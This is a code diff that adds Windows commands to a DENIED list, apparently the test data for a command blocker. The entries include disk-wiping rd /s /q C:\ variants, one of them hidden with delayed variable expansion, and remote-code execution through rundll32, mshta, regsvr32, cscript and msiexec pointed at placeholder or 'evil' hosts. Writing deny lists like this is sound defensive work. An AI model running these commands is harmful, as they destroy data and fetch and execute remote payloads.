@@ -86,6 +86,13 @@ DENIED = [
     'cmd.exe /d /s /c "rd /s /q "C:\\Program Files""',
     "cmd /c start /b rd /s /q C:\\",
     'forfiles /c "cmd /c rd /s /q C:\\"',
+    'cmd /v /c "set x=rd&& !x! /s /q C:\\"',
+    "rundll32.exe url.dll,OpenURL http://x",
+    "rundll32 \\\\evil\\share\\x.dll,Run",
+    'mshta.exe "http://x/y.hta"',
+    "regsvr32.exe /s /u /n /i:https://x/y.sct scrobj.dll",
+    "cscript //nologo \\\\evil\\x.vbs",
+    "msiexec.exe /i https://x/y.msi /qn",
 ]
 
 
